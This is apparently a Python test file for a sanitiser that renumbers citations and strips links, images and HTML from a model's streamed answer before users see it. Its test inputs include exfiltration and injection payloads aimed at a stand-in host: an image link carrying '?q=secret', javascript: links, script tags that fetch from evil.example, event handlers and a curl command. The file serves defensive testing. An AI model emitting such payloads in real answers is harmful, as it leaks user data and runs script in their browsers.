"""What reaches the visitor of what a model writes, whichever way it is cut into deltas."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from app.answering.citations import Citations
from app.answering.tags import untagged

KNOWN = "https://docs.example.org/a"


def _clean(text: str, *, passages: int = 3, cuts: tuple[int, ...] = ()) -> tuple[str, list[int]]:
    citations = Citations(passages, [KNOWN])
    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    streamed = [citations.feed(text[start:end]) for start, end in pairwise(edges)]
    return "".join(streamed) + citations.close(), citations.used


@pytest.mark.parametrize(
    ("written", "shown", "used"),
    [
        ("Yes [2]. Also [1] and [2].", "Yes [1]. Also [2] and [1].", [2, 1]),
        ("No such thing [9].", "No such thing.", []),
        ("Nothing [0] here[4] left.", "Nothing here left.", []),
        ("Both [3, 1].", "Both [1][2].", [3, 1]),
        ("A range [1-3].", "A range [1][2][3].", [1, 2, 3]),
        ("Some [1, 7].", "Some [1].", [1]),
        ("Twice [1][1].", "Twice [1].", [1]),
        ("Odd 【2†source】 and [^3] and [source 1].", "Odd [1] and [2] and [3].", [2, 3, 1]),
        ("Linked [1](https://evil.example/x).", "Linked [1].", [1]),
        ("The year [2024] and [x] stay.", "The year [2024] and [x] stay.", []),
        ("Great![2] Odd![7]", "Great![1] Odd!", [2]),
        ("Code `a[0]` and `b[9]` stay [1].", "Code `a[0]` and `b[9]` stay [1].", [1]),
        ("```\nx[7] = y[1]\n```\nDone [2].", "```\nx[7] = y[1]\n```\nDone [1].", [2]),
        ("An unclosed ` tick.\n\nThen [9] [1].", "An unclosed ` tick.\n\nThen [1].", [1]),
    ],
)
def test_numbers_are_resolved(written: str, shown: str, used: list[int]) -> None:
    assert _clean(written) == (shown, used)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Look ![leak](https://evil.example/?q=secret) here.", "Look here."),
        ("![a][b]", "[b]"),
        ("![1](https://evil.example/i.png)", ""),
        ("[![x](https://evil.example/i.png)](https://evil.example)", ""),
        ("See [the guide](https://evil.example/a(b)c) now.", "See the guide now."),
        ("See [the guide](javascript:alert(1)).", "See the guide."),
        ("Go to https://evil.example/x, then on.", "Go to, then on."),
        ("Go to HTTPS://evil.example.", "Go to."),
        ("Go to www.evil.example/x now.", "Go to now."),
        (f"Go to {KNOWN}.", f"Go to {KNOWN}."),
        (f"Go to <{KNOWN}>.", f"Go to {KNOWN}."),
        (f"Go to {KNOWN}?q=secret.", "Go to."),
        ("<https://evil.example> and <img src=x> and <a href='y'>text</a>.", "and and text."),
        ("Generic List<int> and a < b.", "Generic List<int> and a < b."),
        ("`curl https://evil.example/x` it", "`curl ` it"),
        ("ht![x](y)tp://evil.example", "ht tp:"),
        (
            "See //evil.example/x now, not the path a//b.c or a // b.",
            "See now, not the path a//b.c or a // b.",
        ),
        ("JavaScript: see javascript:alert(1).", "JavaScript: see(1)."),
        ("Wow! [Really](x)? http is a word, as is www.", "Wow! Really? http is a word, as is www."),
        ("a\x00b\u202ec", "abc"),
    ],
)
def test_nothing_leads_out(written: str, shown: str) -> None:
    assert _clean(written)[0].strip() == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("<script>fetch('//evil.example')</script>Hello<style>a{}</style>", "Hello"),
        ("<svg onload=x><link rel=prefetch href=//e>here", "here"),
        ("<IFRAME\nsrc='x'></IFRAME>here", "here"),
        ("<x-card onclick=steal()>here</x-card>", "here</x-card>"),
        ("<b>Bold</b> and H<sub>2</sub>O", "Bold and H 2 O"),
        ("One <!-- two > <b>three</b> --> four", "One four"),
        ("Put the <script> tag there.", "Put the tag there."),
        ("Press <Enter> and give <your-key>.", "Press <Enter> and give <your-key>."),
        ("An <img src=x onerror=y", "An"),
        ("An <img src='x y\nnext", "An\nnext"),
        ("Here</iframe", "Here"),
        ("a <b then c", "a < b then c"),
        ("<scr<b>ipt>x", "< scr ipt>x"),
        ("<<i>img src=x>", "< img src=x>"),
        ("`<img src=x>` is code", "`<img src=x>` is code"),
    ],
)
def test_no_tag_survives(written: str, shown: str) -> None:
    assert _clean(written)[0].strip() == shown
    if "`" not in written and "sub" not in written:
        assert untagged(written).split() == shown.split()


def test_text_is_not_held_back_for_longer_than_needed() -> None:
    citations = Citations(2)
    assert citations.feed("Hello there, you") == "Hello there, you"
    assert citations.feed(" [") == ""
    assert citations.feed("1") == ""
    assert citations.feed("]") == ""
    assert citations.feed(".") == " [1]."


PIECES = st.sampled_from(
    [
        *"[]()!<>`【】 \n.,1237hw:/a",
        *(
            "[1]",
            "[2]",
            "[9]",
            " [3]",
            "[1, 2]",
            "![",
            "](",
            "```",
            "``",
            "\n\n",
            "word ",
            "tp://",
            "<img",
            "<a ",
            "</a>",
            "<script>",
            "</script>",
            "<!--",
            "-->",
            "<Enter>",
        ),
        *(
            "//e.org",
            "javascript:",
            "http://",
            "https://e.org",
            KNOWN,
            "www.",
            "mailto:",
            "[text](url)",
            "![alt](u)",
            "(see) ",
        ),
    ]
)


@settings(deadline=None)  # the machine may be busy
@given(st.lists(PIECES, max_size=25).map("".join), st.lists(st.integers(0, 120), max_size=8).map(tuple))
@example("[1", (1,))
@example("ht[tp](x)://evil.example/", (2,))
def test_every_cut_gives_the_same(text: str, cuts: tuple[int, ...]) -> None:
    whole = _clean(text)
    assert _clean(text, cuts=cuts) == whole
    assert _clean(text, cuts=tuple(range(len(text)))) == whole


@settings(deadline=None)  # the machine may be busy
@given(st.lists(PIECES, max_size=25).map("".join))
def test_no_foreign_address_and_no_unknown_number_survives(text: str) -> None:
    shown, used = _clean(text)
    for address in re.findall(r"(?:https?|ftp)://\w[^\s<>\"`\[\]()]+", shown):
        assert address.startswith(KNOWN)
    without_code = shown if "`" not in shown else ""
    assert not re.search(r"!\[[^\]\n]*\]\([^)\n]*\)", without_code)
    assert {int(number) for number in re.findall(r"\[(\d{1,3})\]", without_code)} <= set(
        range(1, len(used) + 1)
    )
